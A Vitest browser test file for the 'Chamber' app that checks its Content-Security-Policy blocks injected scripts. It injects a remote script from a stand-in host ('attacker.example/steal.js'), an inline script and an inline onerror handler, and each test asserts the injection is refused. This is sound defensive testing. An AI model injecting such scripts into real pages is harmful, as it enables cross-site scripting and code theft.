import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openChamber, type Chamber } from './support/browser';

/**
 * The Content-Security-Policy in real Chromium: whatever reaches the page (a pasted link, a crafted import, a
 * compromised dependency) cannot load a script from elsewhere or run one written inline, while Chamber's own
 * bundled scripts run as usual.
 */
let open: Chamber;

beforeAll(async () => {
  open = await openChamber();
  await open.page.waitForFunction(() => (document.getElementById('root')?.childElementCount ?? 0) > 0);
});
afterAll(async () => {
  await open.context.close();
});

type Outcome = { ran: boolean; violations: { directive: string; blocked: string }[] };

/** Put a script into the page as an attacker would, and report whether it ran and what the CSP refused. */
function inject(kind: 'remote' | 'inline' | 'handler'): Promise<Outcome> {
  return open.page.evaluate(async (which) => {
    const flags = window as unknown as Record<string, boolean>;
    const violations: Outcome['violations'] = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI }),
    );
    if (which === 'remote') {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/steal.js';
      document.head.append(script);
    } else if (which === 'inline') {
      const script = document.createElement('script');
      script.textContent = 'window.injectedRan = true;';
      document.head.append(script);
    } else {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.injectedRan = true');
      image.src = 'data:,not-an-image';
      document.body.append(image);
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { ran: flags.injectedRan === true, violations };
  }, kind);
}

describe('the Content-Security-Policy', () => {
  it("lets Chamber's own scripts run", async () => {
    expect(
      await open.page.evaluate(() => document.getElementById('root')?.childElementCount),
    ).toBeGreaterThan(0);
  });

  it('blocks a script injected from another site', async () => {
    const outcome = await inject('remote');
    expect(outcome.ran).toBe(false);
    expect(outcome.violations).toContainEqual({
      directive: 'script-src-elem',
      blocked: 'https://attacker.example/steal.js',
    });
  });

  it('blocks an injected inline script', async () => {
    const outcome = await inject('inline');
    expect(outcome.ran).toBe(false);
    expect(outcome.violations).toContainEqual({ directive: 'script-src-elem', blocked: 'inline' });
  });

  it('blocks an inline event handler', async () => {
    const outcome = await inject('handler');
    expect(outcome.ran).toBe(false);
    expect(outcome.violations).toContainEqual({ directive: 'script-src-attr', blocked: 'inline' });
  });
});
